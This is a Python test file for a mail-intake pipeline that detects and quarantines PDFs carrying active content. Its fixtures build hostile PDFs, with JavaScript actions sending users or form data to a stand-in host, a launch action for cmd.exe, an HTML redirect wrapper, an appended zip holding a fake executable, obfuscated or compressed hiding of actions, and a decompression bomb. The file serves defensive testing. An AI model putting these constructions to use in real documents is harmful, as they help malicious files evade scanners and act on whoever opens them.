"""PDFs that act by themselves: JavaScript, automatic actions, XFA, a zip after %%EOF, a web page
before the header. Found in the raw bytes and inside compressed object streams; such a PDF is kept
and flagged for the caseworker, and a form that carries it is held unanswered.

The hostile PDFs are built here, from the helpers in hostile_pdfs and with pikepdf.
"""

from __future__ import annotations

import base64
import io
import time
import zipfile
import zlib

import hostile_pdfs
import mail_factory as factory
import pikepdf
import pytest
from conftest import SENCO
from fill_engines import fill_with_pdfium, fill_with_pikepdf, fill_with_pypdf
from sqlalchemy import func, select

from documents import Rejection, describe, get_form, pdf_values, render_form, scan_active_content
from documents.forms.request_example import REQUEST_EXAMPLE
from documents.messages import rejection_texts
from intake.outcomes import outcome_of
from intake.pipeline.process import process_all
from intake.receive.capture import capture_message
from intake.replies import personal_request_form
from store import Attachment, InboundMessage, InboundStatus, OutboxMessage, Submission, Transport

REQUEST = get_form("request")
LISTED = [factory.supporting_file(REQUEST_EXAMPLE[f"documents[{row}].file"]) for row in (1, 2)]
JAVASCRIPT_ACTION = b"<< /S /JavaScript /JS (app.launchURL\\('http://x.example'\\)) >>"


def with_catalog(entries: bytes) -> bytes:
    """A one-page PDF whose catalog carries `entries` (PDF syntax)."""
    pdf = hostile_pdfs.RawPdf()
    catalog, pages, page = (pdf.reserve() for _ in range(3))
    pdf.put(catalog, b"<< /Type /Catalog /Pages %d 0 R %s >>" % (pages, entries))
    pdf.put(pages, b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    pdf.put(page, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % pages)
    return pdf.build(catalog)


def zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def with_compressed_javascript(pdf: bytes) -> bytes:
    """`pdf` opening with a JavaScript action, its catalog written into a compressed object
    stream, where no plain search of the file sees it."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        document.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.submitForm('http://x.example')")
        )
        out = io.BytesIO()
        document.save(
            out,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            compress_streams=True,
        )
    data = out.getvalue()
    assert b"/JavaScript" not in data and b"/OpenAction" not in data
    return data


HOSTILE = {
    "javascript-on-open": (
        lambda: with_catalog(b"/OpenAction %s" % JAVASCRIPT_ACTION),
        {"javascript", "open-action"},
    ),
    "document-javascript": (
        lambda: with_catalog(b"/Names << /JavaScript << /Names [(a) %s] >> >>" % JAVASCRIPT_ACTION),
        {"javascript"},
    ),
    "field-action": (
        lambda: hostile_pdfs.raw_form({"name": b"(Ann) /AA << /K %s >>" % JAVASCRIPT_ACTION}),
        {"automatic-action", "javascript"},
    ),
    "launch": (
        lambda: with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        {"launch-action", "open-action"},
    ),
    "xfa": (hostile_pdfs.xfa_only, {"xfa"}),
    "escaped-names": (
        lambda: with_catalog(b"/Open#41ction << /S /J#61vaScript /J#53 (x) >>"),
        {"javascript", "open-action"},
    ),
    "zip-after-eof": (
        lambda: hostile_pdfs.small_form() + zip_of("invoice.exe", b"MZ" + bytes(100)),
        {"appended-zip"},
    ),
    "html-wrapper": (
        lambda: (
            b"<html><body><script>location='http://x.example'</script>\n"
            + hostile_pdfs.small_form()
        ),
        {"html-before-header"},
    ),
    "javascript-in-object-stream": (
        lambda: with_compressed_javascript(hostile_pdfs.small_form()),
        {"javascript", "open-action"},
    ),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_active_content_is_found(kind):
    build, expected = HOSTILE[kind]
    found = scan_active_content(build())
    assert set(found.findings) == expected
    assert found.detail


def test_object_streams_hidden_by_encryption_cannot_be_vouched_for():
    with pikepdf.open(io.BytesIO(with_compressed_javascript(hostile_pdfs.small_form()))) as pdf:
        out = io.BytesIO()
        encryption = pikepdf.Encryption(owner="owner-secret", user="", R=6)
        pdf.save(out, encryption=encryption, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    found = scan_active_content(out.getvalue())
    assert "unread-object-streams" in found.findings
    assert "object stream(s) not read (the file is encrypted)" in found.detail


def test_every_new_reason_has_a_sentence_of_its_own():
    texts = rejection_texts().by_code
    for code in (
        "attachment-too-large",
        "attachment-content-refused",
        "attachment-content-mismatch",
        "pdf-active-content",
        "form-active-content",
        "sender-not-a-mailbox",
    ):
        assert code in texts
        sentence = describe(Rejection(code, None, None, {"file": "x.pdf", "limit": "10 MB"}))
        assert "reference:" not in sentence and "{" not in sentence


def test_an_open_action_that_only_chooses_the_first_page_is_not_active():
    assert not scan_active_content(with_catalog(b"/OpenAction [3 0 R /Fit]"))
    assert not scan_active_content(with_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"))


def test_our_forms_filled_by_any_engine_have_no_active_content():
    pdf = render_form(REQUEST, values=REQUEST_EXAMPLE, token="a" * 36)
    values = pdf_values(REQUEST, REQUEST_EXAMPLE)
    for filled in (pdf, fill_with_pypdf(pdf, values), fill_with_pikepdf(pdf, values)):
        assert scan_active_content(filled).findings == ()
    assert scan_active_content(fill_with_pdfium(pdf, values)).findings == ()
    assert scan_active_content(hostile_pdfs.small_form()).findings == ()


def test_a_decompression_bomb_in_an_object_stream_stops_at_the_budget_and_is_reported():
    bomb = hostile_pdfs.zeros_bomb(1024**3)
    pdf = hostile_pdfs.RawPdf()
    catalog = pdf.add(b"<< /Type /Catalog >>")
    pdf.add(hostile_pdfs.stream(bomb, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))
    started = time.monotonic()
    found = scan_active_content(pdf.build(catalog))
    assert time.monotonic() - started < 5
    assert found.findings == ("unread-object-streams",)


def test_names_hidden_behind_two_filters_are_found():
    objects = b"1 0 << /S /JavaScript /JS (x) >>"
    hidden = base64.a85encode(zlib.compress(objects), adobe=True)
    pdf = hostile_pdfs.RawPdf()
    catalog = pdf.add(b"<< /Type /Catalog /OpenAction 2 0 R >>")
    pdf.add(
        hostile_pdfs.stream(
            hidden, b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]"
        )
    )
    assert set(scan_active_content(pdf.build(catalog)).findings) == {"javascript", "open-action"}


# --- through the pipeline -------------------------------------------------------------------


def deliver(services, raw: bytes) -> InboundMessage:
    captured = capture_message(services, raw, Transport.FILE)
    process_all(services)
    with services.db.session() as session:
        return session.get(InboundMessage, captured.inbound_id)


def count(services, model) -> int:
    with services.db.session() as session:
        return session.scalar(select(func.count()).select_from(model))


def test_an_extra_pdf_with_javascript_is_kept_and_flagged_with_the_decision(services, senco):
    token, _ = personal_request_form(services, senco)
    form = render_form(REQUEST, values=REQUEST_EXAMPLE, token=token)
    extra = ("school-report.pdf", "application/pdf", HOSTILE["javascript-on-open"][0]())
    raw = factory.form_reply(form, sender=SENCO, files=[*LISTED, extra])

    message = deliver(services, raw)

    assert message.status == InboundStatus.ACCEPTED
    decision = next(d for d in message.decisions if d["check"] == "pdf-active-content")
    assert decision["hit"] and "school-report.pdf" in decision["detail"]
    assert "javascript" in decision["detail"]
    with services.db.session() as session:
        flags = {a.filename: a.flag for a in session.scalars(select(Attachment))}
    assert "JavaScript" in flags["school-report.pdf"]
    assert flags["request-form.pdf"] is None


def test_a_form_with_active_content_is_held_for_a_caseworker_unanswered(services, senco):
    token, personal = personal_request_form(services, senco)
    filled = fill_with_pypdf(personal.data, pdf_values(REQUEST, REQUEST_EXAMPLE))
    raw = factory.form_reply(with_compressed_javascript(filled), sender=SENCO, files=LISTED)

    message = deliver(services, raw)

    assert message.status == InboundStatus.QUARANTINED
    assert [r["code"] for r in message.reasons] == ["form-active-content"]
    params = message.reasons[0]["params"]
    assert params["file"] == "request-form.pdf"
    assert set(params["found"]) == {"javascript", "open-action"}
    assert count(services, Submission) == 0 and count(services, OutboxMessage) == 0
    [shown] = outcome_of(services, message.id).reasons
    assert "request-form.pdf" in shown["message"] and "javascript" not in shown["message"]
